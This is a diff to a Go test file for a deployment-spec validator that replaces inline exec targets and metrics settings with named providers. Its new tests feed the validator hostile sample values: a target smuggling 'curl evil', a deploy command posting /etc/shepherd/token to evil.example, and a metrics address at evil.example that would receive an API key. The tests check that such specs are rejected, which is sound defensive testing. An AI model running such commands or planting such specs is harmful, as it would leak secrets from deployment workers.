@@ -3,7 +3,6 @@ package spec
 import (
 	"encoding/json"
 	"errors"
-	"strings"
 	"testing"
 	"time"
 
@@ -14,13 +13,7 @@ import (
 const minimal = `
 service: checkout
 version: v2
-target:
-  type: exec
-  exec:
-    deploy: ./deploy.sh {{.Version}}
-    traffic: ./traffic.sh {{.Percent}}
-    promote: ./promote.sh
-    rollback: ./rollback.sh
+target: checkout-staging
 `
 
 func TestMinimalSpecGetsSafeDefaults(t *testing.T) {
@@ -41,7 +34,7 @@ func TestMinimalSpecGetsSafeDefaults(t *testing.T) {
 	assert.Equal(t, 0.01, *d.Analysis.Checks[0].Max)
 	assert.Equal(t, "p99-latency", d.Analysis.Checks[1].Name)
 	assert.Equal(t, 0.5, *d.Analysis.Checks[1].Max)
-	assert.Equal(t, DefaultPrometheusAddress, d.Analysis.Prometheus.Address)
+	assert.Equal(t, DefaultMetricsSource, d.Analysis.Source)
 	assert.Equal(t, 75*time.Minute, d.TotalSoak())
 	assert.Empty(t, r.Stages, "WithDefaults must not change its receiver")
 }
@@ -49,8 +42,7 @@ func TestMinimalSpecGetsSafeDefaults(t *testing.T) {
 func TestJSONAndYAMLAreTheSameSchema(t *testing.T) {
 	y, err := Parse([]byte(minimal))
 	require.NoError(t, err)
-	j, err := Parse([]byte(`{"service":"checkout","version":"v2","target":{"type":"exec","exec":{
-		"deploy":"./deploy.sh {{.Version}}","traffic":"./traffic.sh {{.Percent}}","promote":"./promote.sh","rollback":"./rollback.sh"}}}`))
+	j, err := Parse([]byte(`{"service":"checkout","version":"v2","target":"checkout-staging"}`))
 	require.NoError(t, err)
 	assert.Equal(t, y, j)
 }
@@ -59,7 +51,7 @@ func TestParseErrors(t *testing.T) {
 	cases := []struct{ name, doc, want string }{
 		{"empty", "  \n", "spec is empty"},
 		{"unknown key", minimal + "stagez: []\n", `unknown key "stagez"`},
-		{"nested unknown key", strings.Replace(minimal, "deploy:", "deplo:", 1), `unknown key "deplo"`},
+		{"nested unknown key", minimal + "analysis: {intervall: 1m}\n", `unknown key "intervall"`},
 		{"wrong type", minimal + "stages: 5\n", "stages: want a list, got number"},
 		{"bad duration", minimal + "stages: [{percent: 100, soak: 15}]\n", `want a duration string such as "15m"`},
 		{"unparsable duration", minimal + "stages: [{percent: 100, soak: fifteen}]\n", `invalid duration "fifteen"`},
@@ -89,8 +81,8 @@ func TestValidate(t *testing.T) {
 		change func(r *Release)
 		want   []string
 	}{
-		{"missing fields are named", func(r *Release) { r.Service, r.Version, r.Target = "", "", Target{} },
-			[]string{"service: required", "version: required", "target.type: required"}},
+		{"missing fields are named", func(r *Release) { r.Service, r.Version, r.Target = "", "", "" },
+			[]string{"service: required", "version: required", "target: required: the name of one of the worker configuration's targets"}},
 		{"percent must increase", func(r *Release) {
 			r.Stages = []Stage{{Percent: 10, Soak: DefaultSoak}, {Percent: 25, Soak: DefaultSoak}, {Percent: 25, Soak: DefaultSoak}, {Percent: 100, Soak: DefaultSoak}}
 		}, []string{"stages[2].percent: must be greater than stages[1].percent (25)"}},
@@ -104,9 +96,14 @@ func TestValidate(t *testing.T) {
 			[]string{"stages[1].percent: the last stage must be 100, got 50"}},
 		{"positive soak and interval", func(r *Release) { r.Stages[0].Soak = -1; r.Analysis.Interval = 0 },
 			[]string{"stages[0].soak: must be positive", "analysis.interval: must be positive"}},
-		{"unknown target", func(r *Release) { r.Target.Type = "kubernetes" }, []string{`target.type: unknown target type "kubernetes"`}},
-		{"exec commands required", func(r *Release) { r.Target.Exec.Promote = " " }, []string{"target.exec.promote: required"}},
-		{"bad template", func(r *Release) { r.Target.Exec.Deploy = "deploy {{.Version" }, []string{"target.exec.deploy: template does not parse"}},
+		{"target is a name", func(r *Release) { r.Target = "./deploy.sh; curl evil" }, []string{`target: "./deploy.sh; curl evil" is not a provider name`}},
+		{"names everywhere", func(r *Release) {
+			r.Notifications = []string{"slack", "Slack", "slack"}
+			r.Flags = &Flags{Names: []string{"f"}}
+			r.Tag = &Tag{Repo: "checkout", Name: "{{.Version"}
+			r.Prechecks = []Precheck{{Name: "a", Check: "x", Signoff: &Signoff{Role: "qa"}}}
+		}, []string{`notifications[1]: "Slack" is not a provider name`, `notifications[2]: "slack" already named at notifications[0]`,
+			"flags.provider: required", "tag.name: template does not parse", "prechecks[0]: give exactly one of"}},
 		{"bad service name", func(r *Release) { r.Service = "Check Out" }, []string{`service: "Check Out" must be 1-63 lowercase letters`}},
 		{"approval action", func(r *Release) { r.Stages[1].Approval = true; r.Stages[1].OnApprovalTimeout = "ignore" },
 			[]string{`stages[1].onApprovalTimeout: must be "abort" or "proceed", got "ignore"`}},
@@ -119,8 +116,8 @@ func TestValidate(t *testing.T) {
 		{"baseline needs previous version", func(r *Release) {
 			r.Analysis.Checks[0].Baseline = &Baseline{MaxRelativeIncrease: 0.2}
 		}, []string{"analysis.checks[0].baseline: needs previousVersion"}},
-		{"prometheus address", func(r *Release) { r.Analysis.Prometheus.Address = "localhost:9090" },
-			[]string{`analysis.prometheus.address: must be an http:// or https:// URL, got "localhost:9090"`}},
+		{"metrics source is a name", func(r *Release) { r.Analysis.Source = "http://evil:9090" },
+			[]string{`analysis.source: "http://evil:9090" is not a provider name`}},
 		{"limits", func(r *Release) { r.Analysis.FailureLimit = 0; r.Analysis.InconclusiveLimit = -1 },
 			[]string{"analysis.failureLimit: must be at least 1", "analysis.inconclusiveLimit: must be at least 1"}},
 	}
@@ -148,7 +145,7 @@ func TestWorkflowIDIsPerServiceAndEnvironment(t *testing.T) {
 // panicking and round-trips through JSON.
 func FuzzParse(f *testing.F) {
 	f.Add([]byte(minimal))
-	f.Add([]byte(`{"service":"a","version":"1","target":{"type":"local"},"stages":[{"percent":100,"soak":"1s"}]}`))
+	f.Add([]byte(`{"service":"a","version":"1","target":"demo","stages":[{"percent":100,"soak":"1s"}]}`))
 	f.Add([]byte("stages: [{percent: 50}, {percent: 100, approval: true, approvalTimeout: 1h}]"))
 	f.Add([]byte("analysis: {checks: [{name: x, query: up, max: 1e309}]}"))
 	f.Fuzz(func(t *testing.T, data []byte) {
@@ -172,15 +169,67 @@ func FuzzParse(f *testing.F) {
 // The SDK decodes a raw Temporal CLI input with encoding/json; a misspelt key must still be rejected.
 func TestUnknownKeysAreCaughtOutsideParseToo(t *testing.T) {
 	var r Release
-	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":{"type":"local"},
+	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo",
 		"stages":[{"percent":100,"aproval":true}]}`), &r))
 	err := r.WithDefaults().Validate()
 	require.Error(t, err)
 	assert.Contains(t, err.Error(), `spec: unknown key "aproval"`)
 
-	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":{"type":"local"},"stages":"all"}`), &r))
+	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo","stages":"all"}`), &r))
 	assert.ErrorContains(t, r.WithDefaults().Validate(), "stages: want a list, got string")
 
-	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":{"type":"local"}}`), &r))
+	require.NoError(t, json.Unmarshal([]byte(`{"service":"checkout","version":"v2","target":"demo"}`), &r))
 	assert.NoError(t, r.WithDefaults().Validate(), "a clean decode leaves no problem behind")
+}
+
+// A spec cannot carry what a worker runs: the inline target of older specs (commands run by `sh -c` on
+// every worker) and inline metrics settings (an address and the name of a worker secret to send there)
+// are rejected with what to write instead, however the spec arrives.
+func TestInlineProviderSettingsAreRejected(t *testing.T) {
+	const attack = `{"service":"checkout","version":"v2",
+		"target":{"type":"exec","exec":{"deploy":"curl -d @/etc/shepherd/token https://evil.example","traffic":"true","promote":"true","rollback":"true"}},
+		"analysis":{"prometheus":{"address":"https://evil.example","bearerTokenEnv":"TEMPORAL_API_KEY"}}}`
+	r, err := Parse([]byte(attack))
+	require.NoError(t, err, "the legacy shape parses so that Validate can explain it")
+	err = r.WithDefaults().Validate()
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "target: a spec no longer describes its target")
+	assert.Contains(t, err.Error(), "analysis.prometheus: a spec no longer gives metrics addresses or credentials")
+	assert.Empty(t, r.Target, "no part of the inline target survives decoding")
+
+	var raw Release
+	require.NoError(t, json.Unmarshal([]byte(attack), &raw))
+	assert.ErrorContains(t, raw.WithDefaults().Validate(), "target: a spec no longer describes its target")
+
+	// Only the workflow, replaying a release started by older code, accepts the legacy target.
+	assert.NoError(t, raw.AcceptLegacy().WithDefaults().Validate())
+}
+
+func TestUsesListsEveryNamedProvider(t *testing.T) {
+	r, err := Parse([]byte(minimal + `
+prechecks:
+  - {name: artifact, check: artifact-exists}
+  - {name: capacity, metric: {query: up, min: 1}}
+  - {name: qa, signoff: {role: qa}}
+flags: {names: [new-checkout], provider: flagd}
+notifications: [releases-slack, events]
+tag: {repo: checkout-git}
+`))
+	require.NoError(t, err)
+	d := r.WithDefaults()
+	require.NoError(t, d.Validate())
+	assert.Equal(t, []Use{
+		{KindTarget, "checkout-staging", "target"},
+		{KindMetrics, "prometheus", "analysis.source"},
+		{KindPrecheck, "artifact-exists", "prechecks[0].check"},
+		{KindMetrics, "prometheus", "prechecks[1].metric.source"},
+		{KindFlags, "flagd", "flags.provider"},
+		{KindNotification, "releases-slack", "notifications[0]"},
+		{KindNotification, "events", "notifications[1]"},
+		{KindRepository, "checkout-git", "tag.repo"},
+	}, d.Uses())
+	d.Analysis = Analysis{Disabled: true, Interval: DefaultInterval, FailureLimit: 1, InconclusiveLimit: 1}
+	for _, u := range d.Uses() {
+		assert.NotEqual(t, "analysis.source", u.Path, "a disabled analysis names no source")
+	}
 }
